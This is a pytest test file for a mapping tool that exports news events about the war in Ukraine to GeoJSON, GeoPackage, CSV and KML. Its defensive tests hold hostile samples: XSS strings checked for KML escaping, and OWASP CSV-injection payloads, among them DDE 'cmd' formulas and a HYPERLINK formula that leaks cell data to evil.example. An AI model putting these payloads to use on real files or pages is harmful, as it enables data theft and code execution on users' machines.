from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET

import pyogrio
import pytest
import shapely

from placemap.maps import write_csv, write_geojson, write_gpkg, write_kml
from placemap.maps.layers import COLUMNS, LAYER_NAMES
from placemap.types import Place


def test_geojson_follows_rfc7946(layers, tmp_path) -> None:
    path = write_geojson(layers, tmp_path / "events.geojson")
    text = path.read_text(encoding="utf-8")
    data = json.loads(text)
    assert data["type"] == "FeatureCollection" and "crs" not in data and "name" not in data
    assert not re.search(r"\d\.\d{8,}", text)  # at most 7 decimals
    features = data["features"]
    assert len(features) == sum(len(layer) for layer in layers.values())
    talks = next(f for f in features if f["properties"]["layer"] == "talks")
    assert talks["geometry"]["coordinates"] == [28.94966, 41.01384]  # longitude first
    claim = next(f for f in features if f["properties"]["layer"] == "claim")
    ring = shapely.LinearRing(claim["geometry"]["coordinates"][0])
    assert ring.is_ccw  # exterior rings counter-clockwise
    assert set(COLUMNS) <= set(talks["properties"])


def test_geojson_keeps_raw_text(hostile_layers, hostile, tmp_path) -> None:
    data = json.loads(write_geojson(hostile_layers, tmp_path / "h.geojson").read_text(encoding="utf-8"))
    values = {v for f in data["features"] for v in f["properties"].values() if isinstance(v, str)}
    assert hostile["img"] in values and hostile["path"] in values  # data, not a page: unescaped
    assert any(hostile["script"] in v for v in values)


def test_gpkg_has_one_table_per_category(layers, tmp_path) -> None:
    path = write_gpkg(layers, tmp_path / "events.gpkg")
    tables = dict(pyogrio.list_layers(path))
    assert set(tables) == set(LAYER_NAMES)
    assert tables["corridor"] == "LineString" and tables["claim"] == "Polygon"
    shelling = pyogrio.read_dataframe(path, layer="shelling")
    assert (shelling["place"] == "Kharkiv").sum() == 3  # one row per event


def test_csv_has_coordinates_and_wkt(layers, tmp_path) -> None:
    path = write_csv(layers, tmp_path / "events.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {"lat", "lon", "wkt", "quote", "event_type"} <= set(rows[0])
    lviv = next(r for r in rows if r["layer"] == "refugees" and r["origin_name"] == "Lviv")
    assert lviv["wkt"].startswith("LINESTRING (24.02324 49.83826")
    assert (float(lviv["lat"]), float(lviv["lon"])) == (49.83826, 24.02324)


KML = "{http://www.opengis.net/kml/2.2}"


def _placemarks(path) -> list[ET.Element]:
    return list(ET.parse(path).getroot().iter(f"{KML}Placemark"))


def _coordinates(placemark: ET.Element) -> list[tuple[float, float]]:
    text = placemark.find(f".//{KML}coordinates").text
    return [tuple(float(n) for n in pair.split(",")[:2]) for pair in text.split()]


def test_kml_has_a_placemark_per_feature(layers, tmp_path) -> None:
    path = write_kml(layers, tmp_path / "events.kml")
    placemarks = _placemarks(path)
    assert len(placemarks) == sum(len(layer) for layer in layers.values())
    by_name = {p.findtext(f"{KML}name"): p for p in placemarks}
    talks = by_name["Talks venues: Istanbul"]
    assert _coordinates(talks) == [(28.94966, 41.01384)]  # longitude, latitude
    corridor = by_name["Evacuation corridors: Mariupol → Zaporizhzhia"]
    assert corridor.find(f"{KML}LineString") is not None
    assert _coordinates(corridor)[0] == pytest.approx((37.54131, 47.09514))
    claims = [p for p in placemarks if p.find(f"{KML}Polygon") is not None]
    assert len(claims) == len(layers["claim"]) == 1
    shapes = {f"{KML}Point", f"{KML}LineString", f"{KML}Polygon"}
    assert all(sum(child.tag in shapes for child in p) == 1 for p in placemarks)
    kharkiv = [p.findtext(f"{KML}description") for p in placemarks if p.findtext(f"{KML}name") == "Shelling: Kharkiv"]
    assert len(kharkiv) == 3  # one placemark per report
    assert all("<b>Status:</b> reported" in d and "Artillery shelled residential districts" in d for d in kharkiv)
    assert {d.split("<b>Date:</b> ")[1][:10] for d in kharkiv} == {"2022-03-01", "2022-03-02", "2022-03-07"}
    assert "Kyiv" in by_name  # a place only mentioned, under its own name


def test_kml_escapes_article_text(hostile_layers, hostile, tmp_path) -> None:
    raw = write_kml(hostile_layers, tmp_path / "h.kml").read_text(encoding="utf-8")
    assert "<script>" not in raw and "<img" not in raw  # XML-escaped in the file
    placemarks = _placemarks(tmp_path / "h.kml")
    assert len(placemarks) == sum(len(layer) for layer in hostile_layers.values())
    descriptions = " ".join(p.findtext(f"{KML}description") for p in placemarks)
    # Google Earth renders a description as HTML: once parsed, the article text is still escaped.
    assert "<script>" not in descriptions and "<img" not in descriptions
    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in descriptions
    assert "&lt;img src=x onerror=alert(1)&gt;" in descriptions
    names = {p.findtext(f"{KML}name") for p in placemarks}
    assert "Shelling: Evil<img src=x onerror=alert(1)>ville" in names  # plain text, XML-escaped only


def test_kml_drops_what_xml_cannot_hold(documents, areas, tmp_path) -> None:
    from placemap.maps import build_layers

    layers = build_layers(documents, gazetteer=areas)
    layers["talks"].loc[:, "quote"] = "a & b \x01\ufffe\x0b end"
    placemarks = _placemarks(write_kml(layers, tmp_path / "c.kml"))  # parses: no invalid character
    talks = next(p for p in placemarks if p.findtext(f"{KML}name").startswith("Talks"))
    assert "“a &amp; b  end”" in talks.findtext(f"{KML}description")


def test_kml_placemarks_take_the_maps_category_colours(layers, tmp_path) -> None:
    from placemap.maps.export import kml_colour
    from placemap.maps.style import CATEGORY_STYLES

    root = ET.parse(write_kml(layers, tmp_path / "events.kml")).getroot()
    styles = {s.get("id"): s for s in root.iter(f"{KML}Style")}
    assert set(styles) == {name for name, layer in layers.items() if len(layer)}
    for name, style in styles.items():
        colour = CATEGORY_STYLES[name][1]  # "#rrggbb" -> KML's "aabbggrr"
        assert style.findtext(f"{KML}IconStyle/{KML}color") == "ff" + colour[5:7] + colour[3:5] + colour[1:3]
        assert style.findtext(f"{KML}LineStyle/{KML}color") == kml_colour(colour)
        assert style.findtext(f"{KML}PolyStyle/{KML}color").startswith("40")  # a translucent fill
    for placemark in _placemarks(tmp_path / "events.kml"):
        name = placemark.findtext(f"{KML}name")
        url = placemark.findtext(f"{KML}styleUrl")
        if name.startswith("Shelling"):
            assert url == "#shelling"
        elif name.startswith("Evacuation corridors"):
            assert url == "#corridor"
    assert kml_colour("#d7301f") == "ff1f30d7"


@pytest.mark.skipif(not {"KML", "LIBKML"} & set(pyogrio.list_drivers(read=True)), reason="GDAL reads no KML")
def test_gdal_reads_the_kml_back(layers, tmp_path) -> None:
    from placemap.maps import export

    path = write_kml(layers, tmp_path / "events.kml")
    read = pyogrio.read_dataframe(path)
    expected = export.kml_placemarks(layers)
    columns = {c.lower(): c for c in read.columns}  # "Description" (KML driver), "description" (LIBKML)
    assert list(read[columns["name"]]) == list(expected["Name"])
    assert list(read[columns["description"]]) == list(expected["Description"])
    for mine, theirs in zip(expected.geometry, read.geometry, strict=True):
        flat = [float(n) for pair in shapely.get_coordinates(mine) for n in pair]
        assert [float(n) for pair in shapely.get_coordinates(theirs) for n in pair] == pytest.approx(flat, abs=1e-7)


def test_own_kml_writer_handles_holes_and_multipart_claims(tmp_path) -> None:
    import geopandas as gpd

    from placemap.maps import export

    square = shapely.Polygon([(30, 46), (34, 46), (34, 49), (30, 49)], holes=[[(31, 47), (32, 47), (32, 48)]])
    frame = gpd.GeoDataFrame(
        {"Name": ["a", "b"], "Description": ["x", "y"]},
        geometry=[square, shapely.MultiPolygon([square, shapely.box(35, 46, 36, 47)])],
        crs="EPSG:4326",
    )
    path = tmp_path / "areas.kml"
    with path.open("w", encoding="utf-8") as handle:
        export._write_kml_document(frame, handle)
    single, multi = _placemarks(path)
    assert single.find(f"{KML}Polygon/{KML}innerBoundaryIs") is not None
    assert len(multi.findall(f"{KML}MultiGeometry/{KML}Polygon")) == 2


def test_writes_are_atomic(layers, tmp_path, monkeypatch) -> None:
    target = tmp_path / "events.geojson"
    target.write_text("old", encoding="utf-8")
    import geopandas

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(geopandas.GeoDataFrame, "to_file", broken)
    with pytest.raises(OSError):
        write_geojson(layers, target)
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["events.geojson"]  # no temporary left behind


#: Cells that spreadsheets run as formulas (OWASP "CSV Injection").
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}


def formula_documents():
    from placemap.maps.examples import PLACES, make_document

    name = "Evilville"  # found in the text by this name; its place is named by the formula
    place = Place(None, FORMULAS["hyperlink"], 48.0, 35.0, "P", "PPL", "UA", "", FORMULAS["at"], 0, "user")
    places = {name: place, **PLACES}
    text = f"Shelling hit {name} and Kharkiv. {FORMULAS['tab']} {FORMULAS['cr']}"
    events = [
        {"category": "shelling", "status": "reported", "location": name, "attribution": FORMULAS["dde"]},
        {"category": "shelling", "status": "reported", "location": "Kharkiv", "attribution": FORMULAS["minus"]},
    ]
    return [make_document(FORMULAS["minus"], text, events, published="=1+2", source=FORMULAS["dde"], places=places)]


def test_csv_neutralises_formulas_in_every_text_cell(tmp_path) -> None:
    from placemap.maps import build_layers

    path = write_csv(build_layers(formula_documents()), tmp_path / "events.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values() if value]
    assert len(rows) == 2
    dangerous = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    plain_numbers = [cell for cell in dangerous if re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    assert dangerous == plain_numbers
    assert "'" + FORMULAS["hyperlink"] in cells and "'" + FORMULAS["dde"] in cells  # place, attribution, source
    assert "'=1+2" in cells  # the date
    assert any(cell == "'" + FORMULAS["minus"] for cell in cells)  # the document id


def test_csv_leaves_plain_numbers_alone(tmp_path) -> None:
    from placemap.maps import build_layers
    from placemap.maps.examples import PLACES, make_document

    west = Place(None, "Westville", -12.5, -70.25, "P", "PPL", "PE", "", "", 0, "user")
    document = make_document(
        "d", "Shelling hit Westville.", [{"category": "shelling", "status": "reported", "location": "Westville"}],
        places={"Westville": west, **PLACES}, source="-12",
    )  # fmt: skip
    rows = list(csv.DictReader(write_csv(build_layers([document]), tmp_path / "e.csv").open(encoding="utf-8")))
    assert (rows[0]["lat"], rows[0]["lon"], rows[0]["source"]) == ("-12.5", "-70.25", "-12")


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("-1-1", "'-1-1"), ("-1e5", "-1e5"), ("+.5", "+.5"), ("Kyiv", "Kyiv"), (-3, -3), (None, None)],
)
def test_neutralise_formula(value, expected) -> None:
    from placemap.maps.export import neutralise_formula

    assert neutralise_formula(value) == expected
